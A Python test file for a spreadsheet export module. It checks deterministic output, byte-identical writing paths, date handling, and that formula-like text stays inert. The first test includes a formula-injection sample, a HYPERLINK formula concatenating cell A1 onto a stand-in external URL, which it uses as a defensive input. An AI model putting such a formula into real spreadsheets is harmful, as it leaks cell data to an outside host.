"""Workbooks are deterministic and never turn data into formulas."""

from __future__ import annotations

import datetime
import io

import numpy as np
import openpyxl
import pandas as pd

from ghg.core import xlsx
from ghg.core.xlsx import Section, workbook_bytes


def test_text_that_looks_like_a_formula_stays_text():
    table = pd.DataFrame({"name": ['=HYPERLINK("http://x.example/"&A1,"click")', "+1", "@a"],
                          "t": [1.5, 2.0, 3.0]})
    data = workbook_bytes({"s": [Section("=title", table)], "plain": [Section("", table)]})
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet, first in (("s", 3), ("plain", 2)):
        cells = book[sheet]
        assert cells.cell(first, 1).value == '=HYPERLINK("http://x.example/"&A1,"click")'
        assert cells.cell(first, 1).data_type == "s"
        assert cells.cell(first, 2).value == 1.5
    assert book["s"].cell(1, 1).data_type == "s"


def test_the_same_tables_give_the_same_bytes():
    table = pd.DataFrame({"a": [1.0, 2.0]})
    assert workbook_bytes({"x": [Section("t", table)]}) == \
        workbook_bytes({"x": [Section("t", table)]})


def test_cells_written_directly_are_the_bytes_openpyxl_writes_cell_by_cell():
    # text that needs escaping, keeps its spaces, looks like a formula or an error code, is
    # empty; integers past 2**53 (openpyxl's %.16g), floats needing 17 digits, booleans, NaN
    # and None (empty cells that still count in the dimension), numpy scalars, a column of
    # nothing, a one-column first table (the frozen pane's cell lies outside it)
    odd = pd.DataFrame({
        "text": ["a & b <c>", " padded ", "=1+2", "#N/A", "", "   ", "Bến Tre", None],
        "n": [1, 2**60, -3, 0, 7, 8, 9, 10],
        "x": [0.1 + 0.2, 1e-300, -2.5, np.nan, 1 / 3, 2.0, np.float32(1.5), 3.0],
        "flag": [True, False, True, None, False, True, True, False],
        "none": [None] * 8,
        "mixed": ["+84", 5, 2.5, True, np.nan, "x", np.int64(4), "-"],
    })
    one_column = pd.DataFrame({"only": ["-1", "@a"]})
    sheets = {
        "first": [Section("", one_column), Section("=title", odd, {"x": "0.0%", "n": "#,##0",
                                                                     "mixed": "0.000"})],
        "second": [Section("t", odd.iloc[:0]), Section("", odd, {"x": "#,##0.000",
                                                                  "flag": "0.0"})],
        "empty": [],
        "no columns": [Section("t", pd.DataFrame(index=range(3)))],
    }
    direct = xlsx._workbook_bytes(sheets, direct=True)
    assert direct == xlsx._workbook_bytes(sheets, direct=False)
    assert workbook_bytes(sheets) == direct


def test_a_table_with_dates_is_written_cell_by_cell_by_openpyxl():
    table = pd.DataFrame({"day": [datetime.datetime(2024, 1, 2)], "n": [1.0]})
    assert workbook_bytes({"d": [Section("t", table)]}) == \
        xlsx._workbook_bytes({"d": [Section("t", table)]}, direct=False)
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes({"d": [Section("t", table)]})))
    assert book["d"].cell(3, 1).value == datetime.datetime(2024, 1, 2)
